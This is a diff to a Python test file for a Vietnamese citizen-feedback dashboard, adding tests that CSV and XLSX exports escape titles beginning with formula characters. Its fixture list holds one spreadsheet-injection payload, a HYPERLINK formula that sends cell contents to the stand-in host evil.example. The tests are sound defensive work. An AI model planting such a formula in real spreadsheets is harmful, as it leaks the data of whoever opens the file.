@@ -12,6 +12,7 @@ from litestar.testing import AsyncTestClient
 
 from feedback import handling
 from feedback.charts import grouped_bars, rate_line
+from feedback.exports import Column, Table, as_csv
 from feedback.performance import last_twelve_months
 from notify.db import Database, utcnow
 from routing.calendar import VIETNAM
@@ -116,7 +117,7 @@ async def test_officers_do_not_see_the_dashboard(client: AsyncTestClient, office
 async def test_the_department_table_downloads_as_csv_that_excel_reads(client: AsyncTestClient, office) -> None:
     await log_in(client, "lanhdao")
     response = await client.get("/can-bo/bang-dieu-khien/xuat/don-vi", params={"format": "csv"})
-    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
+    assert response.status_code == 200 and response.headers["content-type"] == "text/csv; charset=utf-8"
     assert 'filename="cau-noi-don-vi-' in response.headers["content-disposition"]
     assert response.content.startswith(b"\xef\xbb\xbf")  # the BOM: Excel then reads UTF-8
     rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
@@ -124,6 +125,42 @@ async def test_the_department_table_downloads_as_csv_that_excel_reads(client: As
     construction = next(row for row in rows if row[0] == "Sở Xây dựng")
     assert construction[6] == "1"
     assert rows[-1][0] == "Tất cả cơ quan"
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Xem hướng dẫn")',
+    "+84 912 345 678 có gọi lại được không",
+    "-5% phí trước bạ có đúng không",
+    "@Sở Xây dựng: hồ sơ nộp ở đâu",
+]
+"""Citizens' titles that a spreadsheet would run as formulas if they began a cell."""
+
+
+async def test_titles_that_look_like_formulas_download_as_text(
+    client: AsyncTestClient, database: Database, tmp_path, office
+) -> None:
+    for title in FORMULAS:
+        await submit(database, tmp_path, title=title)
+    await log_in(client, "lanhdao")
+    download = await client.get("/can-bo/bang-dieu-khien/xuat/cau-hoi", params={"format": "csv"})
+    titles = [row[1] for row in csv.reader(io.StringIO(download.content.decode("utf-8-sig")))][1:]
+    assert sorted("'" + title for title in FORMULAS) == sorted(t for t in titles if t.startswith("'"))
+    assert not [t for t in titles if t.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    workbook = await client.get("/can-bo/bang-dieu-khien/xuat/cau-hoi", params={"format": "xlsx"})
+    cells = {row[1].value: row[1] for row in openpyxl.load_workbook(io.BytesIO(workbook.content)).active.iter_rows()}
+    assert all(cells[title].data_type == "s" for title in FORMULAS)  # the title itself, as a string
+
+
+def test_every_text_cell_that_begins_like_a_formula_is_written_as_text() -> None:
+    table = Table(
+        "Sheet", [("Name", Column.TEXT), ("Days", Column.DAYS)], [[start + "1+1", 2.0] for start in "=+-@\t\r"]
+    )
+    rows = list(csv.reader(io.StringIO(as_csv(table).decode("utf-8-sig"), newline="")))
+    assert [row[0] for row in rows[1:]] == ["'" + start + "1+1" for start in "=+-@\t\r"]
+    assert as_csv(Table("Sheet", [("Name", Column.TEXT)], [["Sở Y tế"], ["a=b"]])).decode().splitlines()[1:] == [
+        "Sở Y tế",
+        "a=b",
+    ]
 
 
 async def test_the_questions_and_the_overdue_list_download_as_xlsx(client: AsyncTestClient, office) -> None:
